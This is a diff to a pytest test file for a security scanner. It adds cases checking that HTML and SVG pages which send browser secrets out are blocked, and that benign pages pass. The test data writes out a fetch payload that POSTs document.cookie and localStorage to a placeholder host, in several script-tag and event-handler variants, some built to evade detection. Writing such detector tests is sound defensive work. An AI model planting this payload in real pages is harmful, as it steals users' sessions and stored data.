@@ -6,7 +6,7 @@ from pathlib import Path
 
 import pytest
 
-from metier.govern.scan import scan
+from metier.govern.scan import scan, scan_text
 
 HEAD = """---
 name: tidy-notes
@@ -383,3 +383,47 @@ def test_what_leads_to_a_stranger_is_blocked_and_what_leads_home_is_not(tmp_path
 def test_what_no_honest_program_does_is_blocked(tmp_path: Path, name: str) -> None:
     path, text = BY_THE_DEED[name]
     assert decided(tmp_path, path, text.replace("HOST", STRANGER)) == "block"
+
+
+TAKES = "fetch('https://HOST/i', {method: 'POST', body: document.cookie + JSON.stringify(localStorage)})"
+IN_A_PAGE = {
+    "an element": ("a.html", f"<html>\n<body>\n<script>{TAKES}</script>\n</body>\n</html>"),
+    "a module": ("a.htm", f"<p>x</p>\n<SCRIPT type=module\n>{TAKES}</SCRIPT >"),
+    "no end": ("a.html", f"<p>x</p>\n\n<script defer>{TAKES}"),
+    "after data": ("a.html", f'<script type="application/json">{{"a": 1}}</script>\n\n<script>{TAKES}</script>'),
+    "a drawing": ("a.svg", f"<svg>\n\n<script>{TAKES}</script></svg>"),
+    "no ending": ("assets/page", f"<!DOCTYPE html>\n\n<script>{TAKES}</script>"),
+    "an event": ("a.html", f'<html>\n\n<body class="a" onload="{TAKES}">'),
+    "an event without signs": ("a.html", f"<html>\n\n<img src=x onerror={TAKES.replace(' ', '')}>"),
+    "an event that is written out": (
+        "a.html",
+        f"<p>x</p>\n\n<img onerror='{TAKES.replace(chr(39), '&apos;')}' src='x'>",
+    ),
+    "said to be shown": ("a.html", f"<p>Look for a payload such as:</p>\n\n<script>{TAKES}</script>"),
+}
+"""Each takes what a browser keeps, on its third line."""
+
+
+@pytest.mark.parametrize("name", IN_A_PAGE)
+def test_what_a_page_runs_is_read_as_a_program(name: str) -> None:
+    path, text = IN_A_PAGE[name]
+    found = scan_text(text.replace("HOST", STRANGER), path).findings
+    assert ("send-secrets", "block", 3) in {(one.rule, one.severity.value, one.line) for one in found}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<script src="https://cdn.jsdelivr.net/npm/chart.js"></script>',
+        f'<script type="text/template">{TAKES}</script>',
+        "<script src='https://cdn.plot.ly/plotly-2.35.2.min.js'></script><div id='c'></div>\n<script>\n"
+        "const data = [{x: [1, 2], y: [3, 4], type: 'bar'}];\nPlotly.newPlot('c', data, {responsive: true});\n"
+        "document.querySelectorAll('th').forEach(one => one.addEventListener('click', () => sort(one)));\n</script>",
+        "<script>const kept = localStorage.getItem('theme'); document.body.className = kept || 'light';</script>",
+        "<button onclick=\"navigator.clipboard.writeText(document.querySelector('pre').innerText)\">Copy</button>",
+        "<script>fetch('/api/rows').then(r => r.json()).then(rows => draw(rows));</script>",
+    ],
+)
+def test_an_honest_page_is_clean(tmp_path: Path, text: str) -> None:
+    page = f"<!DOCTYPE html>\n<html><head><title>Notes</title></head><body>\n<h1>Notes</h1>\n{text}\n</body></html>"
+    assert decided(tmp_path, "assets/report.html", page) == "clean"
